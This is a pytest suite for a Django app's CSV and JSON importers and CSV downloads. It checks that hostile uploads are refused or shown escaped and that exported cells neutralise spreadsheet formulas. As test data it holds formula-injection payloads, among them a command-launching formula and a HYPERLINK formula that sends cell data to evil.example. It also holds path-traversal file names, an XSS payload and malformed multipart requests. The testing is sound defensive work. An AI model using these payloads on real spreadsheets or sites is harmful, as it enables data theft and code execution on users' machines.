"""Hostile files through the importers' browser paths, and the CSV downloads of the app.

tests/programs/test_importer.py already drives the CSV parser and the command line with hostile
files (``test_hostile_files_never_raise_and_a_file_with_errors_writes_nothing``). This suite
covers what it does not: the upload form (file names, encodings, binary garbage, huge cells),
the preview and error pages that show the file's content back (escaped), the import run by the
confirm button, the program configuration (JSON) import, and formula injection into the CSV
files people download from the dashboards and survey results.
"""

from __future__ import annotations

import copy
import csv
import html
import io
import json
import os
import re
from pathlib import Path
from typing import Any

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.db import transaction
from django.test import Client
from hypothesis import HealthCheck, Phase, example, given, settings
from hypothesis import strategies as st

from feedback.models import Question
from mentorship.csv_export import FORMULA_STARTS, csv_writer, neutralise
from programs.csv_parser import parse_participants_csv
from programs.library import TEMPLATES
from programs.models import ImportJob, Participant, Program, Topic
from tests.conftest import Tenant
from tests.dbstate import changed, snapshot
from tests.factories import ProgramFactory
from tests.feedback.test_results import answer, make_cycle
from tests.programs.test_importer import HEADERS, ROWS, render
from tests.security.test_hostile_forms import IMG, SCRIPT, unescaped

FORMULAS = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("https://evil.example/?"&A1,"Open")',
    "+1+1",
    "-2+3",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
]

NOT_UTF8 = "The file is not UTF-8 text"


@pytest.fixture
def program(alpha: Tenant) -> Program:
    with alpha.scope():
        return ProgramFactory(organization=alpha.organization, slug="p", name="P")


def upload_url(program: Program) -> str:
    return f"/o/{program.organization.slug}/programs/{program.slug}/participants/import/"


# --- The upload form ------------------------------------------------------------------------------

FILE_NAMES = st.one_of(
    st.sampled_from(
        [
            f"{SCRIPT}.csv",
            f"{IMG}.csv",
            "../../../etc/passwd",
            "..\\..\\windows\\win.ini",
            "C:\\Users\\hr\\people.csv",
            "a" * 251 + ".csv",  # the longest name file systems allow
            "😀 people ‮vsc.exe",
            "=cmd|' /C calc'!A0.csv",
            "people.csv",
        ]
    ),
    # Names the test client can send (it refuses to send one ending in "/", ".", or "..").
    st.text(min_size=1, max_size=40).filter(
        lambda s: "\x00" not in s and os.path.basename(s).strip() not in ("", ".", "..")
    ),
)

ENCODINGS = st.sampled_from(["utf-8", "utf-8-sig", "utf-16", "latin-1", "cp1252"])

# Valid rows whose text is hostile: they pass the checks and are shown in the preview.
SHOWN_CELLS = st.sampled_from([SCRIPT, IMG, *FORMULAS[:5], "Zoë", "李"])


def _clean_file(first: str, last: str, department: str, topic: str) -> str:
    out = io.StringIO()
    csv.writer(out).writerows(
        [
            ["email", "first_name", "last_name", "side", "department", "offers"],
            ["new.person@example.com", first, last, "junior", department, topic],
        ]
    )
    return out.getvalue()


TEXTS = st.one_of(
    st.builds(lambda h, r, q: render(h, r, q), HEADERS, ROWS, st.booleans()),
    st.builds(_clean_file, SHOWN_CELLS, SHOWN_CELLS, SHOWN_CELLS, SHOWN_CELLS),
    # One cell past the csv module's field limit, of characters that must be escaped.
    st.builds(
        lambda ch, n: f"email,first_name,last_name,side\n{ch * n}@x.com,A,B,junior\n",
        st.sampled_from(["x", "<", '"', "é"]),
        st.sampled_from([10_000, 200_000]),
    ),
)

BODIES = st.one_of(
    st.builds(lambda text, enc: text.encode(enc, errors="replace"), TEXTS, ENCODINGS),
    st.binary(min_size=1, max_size=2_000),
    st.sampled_from([b"\x00" * 100, b"\xff\xfe" + b"\x00" * 10, b"PK\x03\x04" + b"\x00" * 50]),
)


@settings(
    max_examples=100,
    deadline=None,
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
    # No shrinking: every step is an upload, and the failure message names the file.
    phases=[Phase.explicit, Phase.reuse, Phase.generate],
)
@given(name=FILE_NAMES, body=BODIES)
@example(name='"><img src=x onerror=alert(1)>.csv', body=b"")  # once failed on PostgreSQL
def test_hostile_uploads_are_refused_or_previewed_escaped_and_write_only_the_job(
    alpha: Tenant, program: Program, client_for, name: str, body: bytes
) -> None:
    client = client_for(alpha.hr)
    with transaction.atomic():
        before = snapshot()
        response = client.post(
            upload_url(program), {"file": SimpleUploadedFile(name, body)}, follow=True
        )
        where = f"upload {name[:60]!r} of {len(body)} bytes {body[:60]!r}"
        # 400: a request Django's multipart parser refuses (a control character in the name).
        assert response.status_code in (200, 400), f"{response.status_code} for {where}"
        page = response.content.decode()
        assert not unescaped(page), f"unescaped {unescaped(page)} after {where}"
        # The page says what was wrong; it does not echo a huge cell back.
        assert len(page) < 200_000, f"a {len(page)}-character page for {where}"
        written = changed(before, snapshot())
        try:
            text = body.decode("utf-8-sig")
        except UnicodeDecodeError:
            text = None
        if not body and response.status_code == 200 and arrives(name):
            # An empty file is refused by the form ("The submitted file is empty."): no job.
            assert not response.redirect_chain and not written, where
        elif response.status_code == 400 or text is None or not arrives(name):
            assert not response.redirect_chain and not written, where
            if arrives(name):
                assert NOT_UTF8 in page, where
        else:
            # Parsing writes nothing but the job that records the outcome.
            assert set(written) == {"programs.ImportJob"}, where
            with alpha.scope():
                job = ImportJob.objects.latest("pk")
            assert len(job.filename) <= 200 and not re.search(r"[/\\]", job.filename), where
            parsed = parse_participants_csv(text)
            expected = ImportJob.Status.PREVIEW if parsed.is_clean else ImportJob.Status.INVALID
            assert job.status == expected and len(job.errors) == len(parsed.errors), where
        transaction.set_rollback(True)


def arrives(name: str) -> bool:
    """Whether Django's multipart parser keeps a file sent under this name: it keeps the last
    path segment, drops the characters that are not printable, and drops the file when nothing,
    ".", or ".." is left (the form then says that no file was sent). The test client quotes
    the name without escaping it, so a '";' in it ends the parameter there."""
    base = html.unescape(name).split('";')[0].rsplit("/")[-1].rsplit("\\")[-1]
    return "".join(c for c in base if c.isprintable()) not in ("", ".", "..")


def malformed_bodies() -> dict[str, tuple[str, bytes]]:
    """Multipart requests Django's parser refuses (``MultiPartParserError``)."""
    part = (
        b'--B\r\nContent-Disposition: form-data; name="file"; filename="'
        + b"a" * 2000  # the part's headers exceed the 1,024 bytes Django reads
        + b'.csv"\r\nContent-Type: text/csv\r\n\r\nemail\r\n--B--\r\n'
    )
    return {
        "part headers over 1 KB": ("multipart/form-data; boundary=B", part),
        "no boundary": ("multipart/form-data", b"--B--\r\n"),
        "non-ASCII boundary": ("multipart/form-data; boundary=é", b"--B--\r\n"),
    }


@pytest.mark.parametrize("case", list(malformed_bodies()))
def test_a_malformed_upload_request_is_a_400_not_a_500(
    alpha: Tenant, program: Program, client_for, case: str
) -> None:
    content_type, body = malformed_bodies()[case]
    client = client_for(alpha.hr)
    client.raise_request_exception = False
    before = snapshot()
    response = client.generic("POST", upload_url(program), body, content_type=content_type)
    assert response.status_code == 400
    assert "could not be read" in response.content.decode()
    assert not changed(before, snapshot())


def test_an_upload_over_ten_megabytes_is_refused_and_writes_nothing(
    alpha: Tenant, program: Program, client_for
) -> None:
    client = client_for(alpha.hr)
    before = snapshot()
    body = b"email,first_name,last_name,side\n" + b"x" * (10 * 1024 * 1024)
    response = client.post(upload_url(program), {"file": SimpleUploadedFile("big.csv", body)})
    assert response.status_code == 200
    assert "larger than 10 MB" in response.content.decode()
    assert not changed(before, snapshot())


@pytest.mark.parametrize(
    "body",
    [
        "email,first_name\nzoë@example.com,Zoë\n".encode("latin-1"),
        "email,first_name\nzoë@example.com,Zoë\n".encode("utf-16"),  # with its BOM
        "email,first_name\nzoë@example.com,Zoë\n".encode("utf-16-be"),
        b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR",
    ],
    ids=["latin-1", "utf-16-bom", "utf-16-be", "png"],
)
def test_a_file_in_another_encoding_is_refused_with_the_reason(
    alpha: Tenant, program: Program, client_for, body: bytes
) -> None:
    client = client_for(alpha.hr)
    before = snapshot()
    response = client.post(upload_url(program), {"file": SimpleUploadedFile("people.csv", body)})
    assert response.status_code == 200 and NOT_UTF8 in response.content.decode()
    assert not changed(before, snapshot())


def test_html_and_formulas_in_cells_are_imported_as_typed_and_shown_escaped(
    alpha: Tenant, program: Program, client_for, django_capture_on_commit_callbacks
) -> None:
    """The importer keeps what people typed (a name is data, whatever its first character);
    pages escape it and CSV downloads neutralise it (see below)."""
    client = client_for(alpha.hr)
    text = _clean_file(SCRIPT, IMG, FORMULAS[0], f"{SCRIPT} topic")
    response = client.post(
        upload_url(program),
        {"file": SimpleUploadedFile(f"{IMG}.csv", text.encode())},
        follow=True,
    )
    preview = response.content.decode()
    assert "The file is clean" in preview and not unescaped(preview)
    assert "&lt;script&gt;alert(1)&lt;/script&gt; topic" in preview  # the new topic, escaped
    with alpha.scope():
        job = ImportJob.objects.get()
    with django_capture_on_commit_callbacks(execute=True):
        client.post(f"{upload_url(program)}{job.pk}/confirm/")
    with alpha.scope():
        job.refresh_from_db()
        person = Participant.objects.get(email="new.person@example.com")
        assert job.status == ImportJob.Status.DONE
        assert (person.first_name, person.last_name, person.department) == (
            SCRIPT,
            IMG,
            FORMULAS[0],
        )
        assert Topic.objects.filter(name=f"{SCRIPT} topic").exists()
    base = f"/o/alpha/programs/{program.slug}/participants/"
    for url in (f"{upload_url(program)}{job.pk}/", base, f"{base}{person.pk}/", "/o/alpha/topics/"):
        page = client.get(url)
        assert page.status_code == 200, url
        assert not unescaped(page.content.decode()), url


# --- The program configuration (JSON) import ------------------------------------------------------


def _config(**program: Any) -> dict[str, Any]:
    data = copy.deepcopy(TEMPLATES["digital-fluency"])
    data["program"].update(program)
    return data


@pytest.mark.parametrize(
    ("config", "message"),
    [
        # PostgreSQL refuses NUL in text with an error (a 500 before the fix); SQLite stored it.
        (_config(name="Cohort\x00"), "NUL characters"),
        (_config(agreement_text="a\x00b"), "NUL characters"),
        ({**_config(), "topics": ["AI\x00"]}, "NUL characters"),
        ({**_config(), "training_modules": [{"title": "T", "body": "\x00"}]}, "NUL characters"),
        # Infinity is valid JSON to Python; int(inf) raised OverflowError in the model check.
        (_config(cadence_weeks=float("inf")), "“cadence_weeks” must be a whole number"),
        (_config(min_level_gap=1e300), "“min_level_gap” must be a whole number"),
        (_config(expected_sessions=float("nan")), "“expected_sessions” must be a whole number"),
        # null in a text setting skipped the model check and failed NOT NULL on save (a 500).
        (_config(goals=None), "“goals” must be text"),
        # A list or an object was stored as its Python spelling ("['x']").
        (_config(name=["x"]), "“name” must be text"),
        (_config(description={"a": 1}), "“description” must be text"),
        (_config(cadence_weeks=10**30), "cadence_weeks: Ensure this value is less than"),
    ],
    ids=[
        "nul-in-name",
        "nul-in-agreement",
        "nul-in-topic",
        "nul-in-module",
        "infinity",
        "huge-float",
        "nan",
        "null-text",
        "list-as-text",
        "object-as-text",
        "huge-integer",
    ],
)
def test_a_hostile_program_configuration_is_refused_with_a_message(
    alpha: Tenant, client_for, config: dict[str, Any], message: str
) -> None:
    client = client_for(alpha.hr)
    before = snapshot()
    response = client.post(
        "/o/alpha/programs/import/",
        {"file": SimpleUploadedFile("p.json", json.dumps(config).encode())},
    )
    assert response.status_code == 200
    assert message in response.content.decode()
    assert not changed(before, snapshot())


def test_html_in_a_program_configuration_is_shown_escaped(alpha: Tenant, client_for) -> None:
    config = _config(name=SCRIPT, description=IMG, cadence_weeks=SCRIPT)
    config["topics"] = [IMG]
    client = client_for(alpha.hr)
    refused = client.post(
        "/o/alpha/programs/import/",
        {"file": SimpleUploadedFile(f"{SCRIPT}.json", json.dumps(config).encode())},
    )
    assert refused.status_code == 200 and not unescaped(refused.content.decode())
    config["program"]["cadence_weeks"] = 2
    imported = client.post(
        "/o/alpha/programs/import/",
        {"file": SimpleUploadedFile("p.json", json.dumps(config).encode())},
        follow=True,
    )
    assert imported.redirect_chain and not unescaped(imported.content.decode())
    for url in ("/o/alpha/programs/", "/o/alpha/topics/", "/o/alpha/dashboard/"):
        assert not unescaped(client.get(url).content.decode()), url


# --- CSV downloads: formula injection -------------------------------------------------------------


@pytest.mark.parametrize("value", FORMULAS)
def test_text_a_spreadsheet_would_run_is_written_as_text(value: str) -> None:
    assert neutralise(value) == "'" + value
    out = io.StringIO()
    csv_writer(out).writerow([value, "Ann", -3, 2.5, None])
    (row,) = csv.reader(io.StringIO(out.getvalue()))
    assert row == ["'" + value, "Ann", "-3", "2.5", ""]


@pytest.mark.parametrize("value", ["Ann", "", "2026-01-05", "a=b", " =1", "'quoted", -20, 4.5])
def test_other_cells_are_written_unchanged(value: object) -> None:
    assert neutralise(value) == value


def test_every_csv_writer_of_the_project_neutralises_formulas() -> None:
    """A new CSV download must use mentorship.csv_export.csv_writer, not csv.writer."""
    root = Path(__file__).resolve().parents[2]
    offenders = [
        str(path.relative_to(root))
        for app in ("mentorship", "programs", "pairings", "feedback")
        for path in (root / app).rglob("*.py")
        if path.name != "csv_export.py"
        and re.search(r"csv\.(writer|DictWriter)\(", path.read_text(encoding="utf-8"))
    ]
    assert not offenders, f"CSV written without neutralising formulas in {offenders}"


def _cells(response: Any) -> list[str]:
    assert response.status_code == 200 and response["Content-Type"].startswith("text/csv")
    return [cell for row in csv.reader(io.StringIO(response.content.decode())) for cell in row]


def _assert_neutralised(cells: list[str], typed: list[str]) -> None:
    for value in typed:
        assert "'" + value in cells, f"{value!r} not neutralised in {cells}"
    assert not [c for c in cells if c.startswith(FORMULA_STARTS)], cells


def test_survey_answers_and_texts_in_the_results_csv_are_neutralised(
    alpha: Tenant, client_for
) -> None:
    with alpha.scope():
        cycle = make_cycle(alpha)
        for n in range(5):  # k = 5 people, so the texts are shown
            answer(cycle, side="junior", department=FORMULAS[1], likert=4, text=FORMULAS[n])
        Question.objects.filter(version=cycle.version, kind=Question.Kind.TEXT).update(
            text=FORMULAS[4]
        )
    url = f"/o/alpha/programs/{cycle.program.slug}/feedback/{cycle.pk}/results.csv"
    cells = _cells(client_for(alpha.hr).get(url))
    _assert_neutralised(cells, FORMULAS[:5])


def test_program_names_in_the_dashboard_csv_are_neutralised(alpha: Tenant, client_for) -> None:
    from programs.services import programs as program_services

    with alpha.scope():
        program_services.program_create(organization=alpha.organization, name=FORMULAS[1])
        program_services.program_create(organization=alpha.organization, name=FORMULAS[4])
    client: Client = client_for(alpha.hr)
    cells = _cells(client.get("/o/alpha/dashboard/programs.csv"))
    _assert_neutralised(cells, [FORMULAS[1], FORMULAS[4]])
